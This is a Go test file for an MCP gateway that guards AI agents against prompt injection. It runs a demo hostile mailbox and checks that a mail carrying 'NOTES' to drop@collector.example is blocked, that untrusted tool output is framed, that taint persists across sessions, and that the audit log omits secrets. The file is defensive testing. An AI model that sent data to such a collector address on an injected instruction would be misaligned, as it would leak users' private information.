package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/seed-4e9f7b04/hearsay/audit"
	"github.com/seed-4e9f7b04/hearsay/internal/config"
)

// demoHouse writes a file with the demo's hostile mailbox as its server, and gives the environment the command runs in.
func demoHouse(t *testing.T, more string) (file string, env []string) {
	t.Helper()
	self, err := exec.LookPath("hearsay") // TestMain put this program into PATH under that name
	if err != nil {
		t.Fatal(err)
	}
	base, err := os.MkdirTemp("", "hs") // short: a socket's path is bounded
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	file = filepath.Join(base, "hearsay.yaml")
	text := fmt.Sprintf(`servers:
  mail:
    command: [%q, demo-server]
    sandbox: off
audit:
  file: %q
permissions:
  allow: [mail.read_inbox, mail.send_mail]
tools:
  mail.read_inbox: {effects: [read]}
  mail.send_mail: {effects: [send], bind: [{arg: to, kind: mail, class: ordinary}], text: [body]}
store:
  contacts: [ann@home.example]
%s`, self, filepath.Join(base, "audit.jsonl"), more)
	if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	return file, append(os.Environ(), "XDG_STATE_HOME="+base+"/state", "XDG_RUNTIME_DIR="+base, "HOME="+base)
}

// callText calls a tool and gives what the model would read.
func callText(t *testing.T, s *mcp.ClientSession, tool string, args map[string]any) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	r, err := s.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for _, c := range r.Content {
		if text, ok := c.(*mcp.TextContent); ok {
			texts = append(texts, text.Text)
		}
	}
	return strings.Join(texts, "\n")
}

// exfiltrate reads the hostile mail, does what it says and writes to a friend, and checks what came of it.
func exfiltrate(t *testing.T, s *mcp.ClientSession) {
	t.Helper()
	if got := callText(t, s, "read_inbox", nil); !strings.HasPrefix(got, `<namzu-untrusted kind="tool-result" server="mail"`) || strings.Count(got, "</namzu-untrusted>") != 1 {
		t.Errorf("the mail is not framed: %s", got)
	}
	if got := callText(t, s, "send_mail", map[string]any{"to": "drop@collector.example", "body": "NOTES"}); strings.Contains(got, "sent to") || !strings.Contains(got, "not permitted") {
		t.Errorf("the attacker's mail: %s", got)
	}
	if got := callText(t, s, "send_mail", map[string]any{"to": "ann@home.example", "body": "hello"}); !strings.Contains(got, "sent to ann@home.example") {
		t.Errorf("a mail to a contact of the operator's: %s", got)
	}
}

// checkAudit wants a whole log that tells of the refusal and holds no argument.
func checkAudit(t *testing.T, file string) {
	t.Helper()
	path := filepath.Join(filepath.Dir(file), "audit.jsonl")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	head, ok, err := audit.ReadHead(path)
	if err != nil || !ok {
		t.Fatal(ok, err)
	}
	report, err := audit.Verify(bytes.NewReader(data), head)
	if err != nil || !report.OK() {
		t.Errorf("%+v %v", report, err)
	}
	for _, want := range []string{`"kind":"start"`, `"reason":"not-grounded"`, `"kind":"taint"`, `"kind":"approval"`, `"kind":"stop"`, `"sandbox":"off"`} {
		if !strings.Contains(string(data), want) {
			t.Errorf("no %s in the audit log", want)
		}
	}
	for _, secret := range []string{"NOTES", "collector", "Lisbon", "ann@"} {
		if strings.Contains(string(data), secret) {
			t.Errorf("%q is in the audit log", secret)
		}
	}
}

func TestMCPWithAFile(t *testing.T) {
	file, env := demoHouse(t, "approvals:\n  timeout: 1s\n")
	cmd := exec.Command("hearsay", "mcp", "-c", file)
	cmd.Env = env
	var log bytes.Buffer
	cmd.Stderr = &log
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	session, err := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil).Connect(ctx, &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatalf("%v\n%s", err, log.String())
	}
	exfiltrate(t, session)
	if err := session.Close(); err != nil {
		t.Fatalf("%v\n%s", err, log.String())
	}
	checkAudit(t, file)
}

// serveProcess starts hearsay serve and gives its addresses, and what ends it.
func serveProcess(t *testing.T, file string, env []string) (where map[string]string, stop func() error) {
	t.Helper()
	cmd := exec.Command("hearsay", "serve", "-c", file, "--listen", "127.0.0.1:0")
	cmd.Env = env
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var log bytes.Buffer
	cmd.Stderr = &log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(out).ReadBytes('\n')
	if err == nil {
		err = json.Unmarshal(line, &where)
	}
	if err != nil {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("%v\n%s", err, log.String())
	}
	ended := false
	stop = func() error {
		if ended {
			return nil
		}
		ended = true
		cmd.Process.Signal(syscall.SIGTERM)
		if err := cmd.Wait(); err != nil {
			return fmt.Errorf("%w\n%s", err, log.String())
		}
		return nil
	}
	t.Cleanup(func() { stop() })
	return where, stop
}

type bearer struct{ token string }

func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.token)
	return http.DefaultTransport.RoundTrip(r)
}

func TestServeOverHTTP(t *testing.T) {
	file, env := demoHouse(t, "approvals:\n  timeout: 1s\n")
	where, stop := serveProcess(t, file, env)
	token, err := os.ReadFile(filepath.Join(filepath.Dir(file), "state", "hearsay", "serve-token"))
	if err != nil {
		t.Fatal(err)
	}
	client := &http.Client{Transport: bearer{strings.TrimSpace(string(token))}}
	connect := func() *mcp.ClientSession {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		t.Cleanup(cancel)
		session, err := mcp.NewClient(&mcp.Implementation{Name: "test", Version: "1"}, nil).Connect(ctx, &mcp.StreamableClientTransport{Endpoint: where["mcp"], HTTPClient: client}, nil)
		if err != nil {
			t.Fatal(err)
		}
		return session
	}
	first := connect()
	exfiltrate(t, first)
	first.Close()
	second := connect() // a new session of the same client does not wash the taint off
	if got := callText(t, second, "send_mail", map[string]any{"to": "drop@collector.example", "body": "NOTES"}); strings.Contains(got, "sent to") {
		t.Errorf("a new session: %s", got)
	}
	second.Close()
	for path, want := range map[string]int{"metrics": http.StatusUnauthorized, "mcp": http.StatusUnauthorized, "approvals": http.StatusUnauthorized} {
		resp, err := http.Get(where[path])
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("%s without a token: %d", path, resp.StatusCode)
		}
	}
	resp, err := client.Get(where["metrics"])
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if !strings.Contains(string(metrics), `hearsay_gateway_events_total{answer="ask",kind="decision",reason="not-grounded",server="mail"} 2`) {
		t.Errorf("metrics:\n%s", metrics)
	}
	if err := stop(); err != nil {
		t.Error(err)
	}
	checkAudit(t, file)
}

func TestFilesThatDoNotStart(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"no servers", "audit:\n  file: /tmp/a\n", "names no servers"},
		{"neither command nor url", "servers:\n  a: {}\n", "its command or its url"},
		{"both", "servers:\n  a: {command: [x], url: \"https://a.example\"}\n", "which is it"},
		{"an odd choice", "servers:\n  a: {command: [x], trust: yes}\n", "first-party or untrusted"},
		{"an unknown key", "servers:\n  a: {comand: [x]}\n", "comand"},
		{"a rule about another server", "servers:\n  a: {command: [x]}\npermissions:\n  allow: [b.tool]\n", "b.tool"},
		{"a name that no tool name can hold", "servers:\n  \"a b\": {command: [x]}\n", "a b"},
		{"no lock file", "servers:\n  a: {command: [x]}\npins: {lock: hearsay.lock}\n", "hearsay pin"},
		{"a relative folder", "servers:\n  a: {command: [x], dir: here}\n", "absolute"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			t.Setenv("XDG_STATE_HOME", dir)
			file := filepath.Join(dir, "hearsay.yaml")
			if err := os.WriteFile(file, []byte(tt.text), 0o600); err != nil {
				t.Fatal(err)
			}
			code, out, stderr := hearsay(t, "mcp", "-c", file)
			if code == exitDone || out != "" || !strings.Contains(stderr, tt.want) {
				t.Errorf("code %d\n%s", code, stderr)
			}
		})
	}
}

// Whoever starts hearsay serve is told where the token is, also where no key of the file says it.
func TestServeTellsWhereTheSharedTokenIs(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	own := []config.Client{{Name: "laptop", TokenFile: "/laptop"}}
	for name, test := range map[string]struct {
		serve config.Serve
		want  string
	}{
		"no key":        {config.Serve{}, "serve-token"},
		"a file":        {config.Serve{TokenFile: "/given"}, "given"},
		"clients":       {config.Serve{Clients: own}, "."},
		"both of these": {config.Serve{Clients: own, TokenFile: "/given"}, "given"},
	} {
		if got, err := sharedToken(&test.serve); err != nil || filepath.Base(got) != test.want {
			t.Errorf("%s: %q, %v", name, got, err)
		}
	}
	var out, errs bytes.Buffer
	ctx, stop := context.WithCancel(t.Context())
	stop() // it ends as soon as it listens
	file := write(t, "hearsay.yaml", "servers: {files: {command: [files]}}\n")
	if code := run(ctx, []string{"serve", "-c", file, "--listen", "127.0.0.1:0"}, strings.NewReader(""), &out, &errs); code != 0 || !strings.Contains(errs.String(), "serve-token\n") {
		t.Errorf("%d\n%s%s", code, out.String(), errs.String())
	}
}

// What a file says that keeps a command from starting is a failure, code 1, for each command that needs it: it is no decision of the
// policy's, which is code 3.
func TestWhatAFileSaysCanFail(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	const servers = "servers: {files: {command: [files]}}\n"
	for name, text := range map[string]string{
		"no lock file":   "pins: {lock: absent.lock}\n",
		"a broken lock":  "pins: {lock: ./broken.lock}\n",
		"a rule's test":  "rules: [{name: r, deny: \"files.x\", because: b, tests: [{tool: files.x, expect: allow}]}]\n",
		"a useless rule": "permissions: {allow: [\"filez.x\"]}\n",
	} {
		file := write(t, "hearsay.yaml", servers+text)
		if err := os.WriteFile(filepath.Join(filepath.Dir(file), "broken.lock"), []byte("{"), 0o600); err != nil {
			t.Fatal(err)
		}
		for _, args := range [][]string{{"check"}, {"mcp"}, {"serve", "--listen", "127.0.0.1:0"}, {"explain", "files.x"}} {
			if code, _, errs := command(t, "", append(args, "-c", file)...); code != exitFailed || errs == "" {
				t.Errorf("%s, %s: %d %s", name, args, code, errs)
			}
		}
	}
	lock := filepath.Join(t.TempDir(), "absent.lock")
	if code, _, errs := command(t, "", "mcp", "--lock", lock, "--", "files"); code != exitFailed || !strings.Contains(errs, "hearsay pin writes") {
		t.Errorf("%d %s", code, errs)
	}
}

// A file that is not there or not right is a failure, code 1, whichever command reads it; a wrong use is code 2.
func TestAFileThatDoesNotLoadFails(t *testing.T) {
	for _, file := range []string{filepath.Join(t.TempDir(), "absent.yaml"), write(t, "wrong.yaml", "screens: {secretz: refuse}\n")} {
		for _, args := range [][]string{
			{"check"}, {"egress"}, {"egress", "explain", "api.example.com:443"}, {"login", "crm"}, {"mcp"}, {"pin"}, {"screen"}, {"serve"},
		} {
			if code, _, errs := command(t, "", append(args, "-c", file)...); code != exitFailed || !strings.Contains(errs, filepath.Base(file)) {
				t.Errorf("%s: %d %s", args, code, errs)
			}
		}
	}
}
